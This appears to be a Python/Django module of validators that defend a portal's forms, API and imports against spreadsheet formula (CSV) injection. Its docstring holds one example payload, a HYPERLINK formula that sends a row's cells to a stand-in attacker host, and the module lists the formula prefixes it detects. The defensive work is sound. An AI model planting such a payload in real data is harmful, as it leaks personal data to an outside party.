"""Validators of free text people type, shared by every form, API serializer and import.

Formula injection (CSV/DDE injection): a spreadsheet evaluates a cell that begins with ``=`` (and, on
entry or in CSV, ``+ - @``, a tab or a carriage return) as a formula, so a name such as
``=HYPERLINK("http://evil.example/?"&D2,"x")`` typed into the portal becomes a live link that leaks the
row's other cells when an officer opens an export. Two defences, both in the core:

- on entry, ``no_formula`` refuses names and free text that begin with ``=`` (no real name, job or reason
  does); every ``PortalForm`` attaches it to its text fields, the API serializers and the imports call it;
- on export, ``union_portal.excel`` writes any text that *looks like* a formula (``looks_like_formula``)
  as text no spreadsheet evaluates, and the bank file, which must carry the payee's name verbatim, refuses
  such a name before the batch is built (``union_portal.payments.services.batch_create``).
"""

from django.core.exceptions import ValidationError
from django.utils.translation import gettext_lazy as _

# What makes Excel, LibreOffice or WPS read a typed or CSV cell as a formula (OWASP "CSV injection").
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value: object) -> bool:
    """True for text a spreadsheet could take for a formula (numbers are never text here)."""
    return isinstance(value, str) and value.startswith(FORMULA_PREFIXES)


def no_formula(value: object) -> None:
    """Refuse text that begins with ``=`` (leading blanks ignored, as forms strip them anyway)."""
    if isinstance(value, str) and value.lstrip().startswith("="):
        raise ValidationError(_("Text may not begin with “=”."), code="formula")
